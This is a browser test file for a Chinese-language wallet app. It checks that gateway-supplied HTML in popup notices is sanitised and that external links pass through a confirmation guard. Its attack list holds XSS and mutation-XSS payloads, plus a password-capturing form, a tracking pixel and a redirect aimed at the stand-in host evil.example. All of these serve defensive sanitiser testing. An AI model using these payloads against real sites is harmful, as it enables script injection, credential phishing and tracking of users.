import { open } from './support/steps';
import { expect, test } from './support/test';

test.describe('HTML from a gateway, in a real browser', () => {
  // The page's policy would stop most of it as well, so it is bypassed to test the sanitiser alone.
  test.use({ bypassCSP: true });
  const attacks = [
    '<script>window.hit = 1</script>',
    '<img src=x onerror="window.hit = 1">',
    '<svg onload="window.hit = 1"><animate onbegin="window.hit = 1" attributeName=x dur=1s></svg>',
    '<svg><style><img src=x onerror="window.hit = 1"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.hit = 1">',
    '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    '<details open ontoggle="window.hit = 1"><summary>x</summary></details>',
    '<input autofocus onfocus="window.hit = 1"><video><source onerror="window.hit = 1"></video>',
    '<a href="javascript:window.hit=1">javascript</a><a href=" java\tscript:window.hit=1">tab</a>',
    '<a href="data:text/html,<script>window.hit=1</script>">data</a>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">盖住</div>',
    '<form action="https://evil.example/"><input type="password" name="p"><button>支付密码</button></form>',
    '<img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
    '<table><td><b><i></table></b><p>没有关好<h1>标题',
  ];

  test('runs nothing, fetches nothing and covers nothing', async ({ page, world }) => {
    const imageTxt = attacks.map((attack, index) => ({
      windowId: `X${index}`,
      windowType: 2,
      windowTxt: `<p>开头 ${index}</p>${attack}`,
    }));
    await world.alter((state) => ({ ...state, popups: { ...state.popups, imageTxt } }));
    await open(page, '/popupDetails?id=nothing');
    await expect(page.getByText('没有找到这条通知')).toBeVisible();
    for (const [index] of attacks.entries()) {
      await page.goto(`/#/popupDetails?id=X${index}`);
      const article = page.getByRole('article');
      await expect(article.getByText(`开头 ${index}`, { exact: true })).toBeVisible();
      const links = article.getByRole('link');
      for (let link = 0; link < (await links.count()); link += 1) await links.nth(link).click();
      const left = await article.evaluate((element) => ({
        bad: element.querySelectorAll(
          'script, style, iframe, form, input, video, object, embed, link, meta, base, math, [style], [onerror], [onload], [href]',
        ).length,
        // The envelope's own drawings belong to the page.
        foreign: element.querySelectorAll('svg animate, svg style, img[src^="https:"]').length,
        hit: 'hit' in window,
      }));
      expect(left, attacks[index]).toEqual({ bad: 0, foreign: 0, hit: false });
    }
  });

  test('opens links through the external link guard, by tap and by key, and never by itself', async ({
    page,
    world,
  }) => {
    await world.reset('popups');
    await open(page, '/popupDetails?id=P000');
    await page.getByRole('link', { name: '活动说明' }).click();
    await expect(page.getByRole('dialog', { name: '即将离开龙币钱包' })).toContainText(
      'help.longcoin.example',
    );
    await page.getByRole('button', { name: '暂不离开' }).click();
    await page.getByRole('link', { name: '转账' }).focus();
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(/#\/transfer1$/);
    await page.goBack();
    await expect(page.getByRole('heading', { name: '国庆送龙币' })).toBeVisible();
  });
});
